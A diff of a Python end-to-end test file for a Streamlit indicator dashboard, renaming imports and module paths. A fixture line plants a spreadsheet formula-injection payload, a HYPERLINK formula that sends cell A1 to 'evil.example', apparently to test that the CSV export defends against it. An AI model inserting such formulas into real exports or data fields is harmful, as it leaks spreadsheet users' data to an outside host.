@@ -9,9 +9,10 @@ import io
 import pandas as pd
 import pytest
 
-from indicators import auth, statusboard
-from indicators.export import to_excel_csv
-from indicators.i18n import parse_number
+from indicators.auth import users
+from indicators.ingest import comments
+from indicators.text.tables import to_excel_csv
+from indicators.text.numbers import parse_number
 from indicators.store import open_store
 from tests.e2e.conftest import demo_copy, screenshot, serve, wait_for_app
 
@@ -23,11 +24,11 @@ FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Klicka här")'
 
 @pytest.fixture(scope="module")
 def reporting_server(demo_db_template, tmp_path_factory):
-    """`streamlit run dashboard.py` over a demo copy that already holds the account anna (Borås, 1490)."""
+    """`streamlit run app.py` over a demo copy that already holds the account anna (Borås, 1490)."""
     db = demo_copy(demo_db_template, tmp_path_factory, "reporting_server")
     store = open_store(db)
-    auth.add_account(store, auth.User("setup", "admin"), "anna", PASSWORD, "reporter", ["1490"])
-    statusboard.add_comment(store, auth.User("setup", "admin"), "1490", "GN.7", FORMULA)
+    users.add_account(store, users.User("setup", "admin"), "anna", PASSWORD, "reporter", ["1490"])
+    comments.add_comment(store, users.User("setup", "admin"), "1490", "GN.7", FORMULA)
     store.close()
     with serve(db) as server:
         yield server
